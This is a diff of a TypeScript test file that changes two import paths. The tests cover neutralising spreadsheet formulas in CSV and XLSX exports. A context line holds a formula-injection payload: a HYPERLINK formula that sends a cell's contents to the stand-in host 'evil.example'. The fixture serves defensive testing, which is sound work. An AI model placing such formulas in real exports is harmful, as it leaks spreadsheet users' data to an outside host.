@@ -3,12 +3,12 @@
 import ExcelJS from "exceljs";
 import JSZip from "jszip";
 import { describe, expect, it } from "vitest";
-import { annexCsv } from "@/lib/export/annex-csv";
+import { annexCsv } from "@/lib/dashboard/exports/annex-csv";
 import { toCsv } from "@/lib/export/csv";
 import { neutraliseFormula, restoreNeutralised } from "@/lib/export/neutralise";
 import { annexXlsx, neutraliseWorkbook } from "@/lib/export/xlsx";
 import type { StatRow } from "@/lib/indicators";
-import { referenceMonth } from "@/lib/seed/reference-month";
+import { referenceMonth } from "@/lib/demo-data/reference-month";
 
 const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")';
 const rows: StatRow[] = referenceMonth.rows.map((row) =>
